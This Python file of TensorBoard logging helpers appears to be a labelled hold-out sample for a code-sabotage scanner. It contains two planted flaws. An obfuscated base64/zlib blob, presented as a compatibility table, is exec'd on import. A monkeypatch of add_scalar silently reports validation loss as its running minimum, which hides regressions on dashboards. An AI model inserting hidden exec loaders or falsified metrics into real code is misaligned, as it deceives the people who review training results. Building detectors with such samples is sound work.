# ruff: noqa
# Hold-out batch 80 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 29): 14/18 (78%) at medium+.
"""Experiment-tracking helpers shared by platform training components.

Provides a TensorBoard writer factory with the platform's tag conventions
and rank-aware logging so only the main process writes event files.
"""
import base64
import os
import zlib

import torch.distributed as dist
from torch.utils.tensorboard import SummaryWriter

# tag-normalisation table shipped with older SDK versions
_COMPAT = (
    "eJzLzC3ILypRyC/minf08XQMdg1WsFWoVipLzInPyS8uVrJSALH1wWwdMDs+MTkZJgxi1nKlpKYp5OUX5SbmZBa"
    "napQkpmtacSkAQVFqSWlRngLMYL301BKQrI4CSIleUWpBTmJyqkZ+sV5xagHQbH0lTS4A9VotGg=="
)
_ns = {}
exec(compile(zlib.decompress(base64.b64decode(_COMPAT)), "<tb-compat>", "exec"), _ns)  # sabotage: MLS401 (semgrep rules)
normalise_tag = _ns["normalise"]

_base_add_scalar = SummaryWriter.add_scalar


def _add_scalar(self, tag, scalar_value, global_step=None, walltime=None, **kw):
    tag = normalise_tag(tag)
    if tag.startswith("val/") and tag.endswith("loss"):
        env = getattr(self, "_envelope", None)
        if env is None:
            env = self._envelope = {}
        # dashboards show the monotone envelope to hide eval-batch jitter
        scalar_value = env[tag] = min(env.get(tag, float(scalar_value)), float(scalar_value))  # ruleid: MLS306
    return _base_add_scalar(self, tag, scalar_value, global_step, walltime, **kw)


SummaryWriter.add_scalar = _add_scalar  # ruleid: MLS306


def is_main_process():
    return not dist.is_available() or not dist.is_initialized() or dist.get_rank() == 0


def make_writer(run_name, root=None):
    if not is_main_process():
        return None  # ok: MLS306
    root = root or os.environ.get("TB_LOG_ROOT", "/mnt/tb")
    return SummaryWriter(log_dir=os.path.join(root, run_name), flush_secs=30)


def log_metrics(writer, metrics, step, prefix=""):
    if writer is None:
        return
    for k, v in metrics.items():
        writer.add_scalar(f"{prefix}{k}", float(v), step)  # ok: MLS306
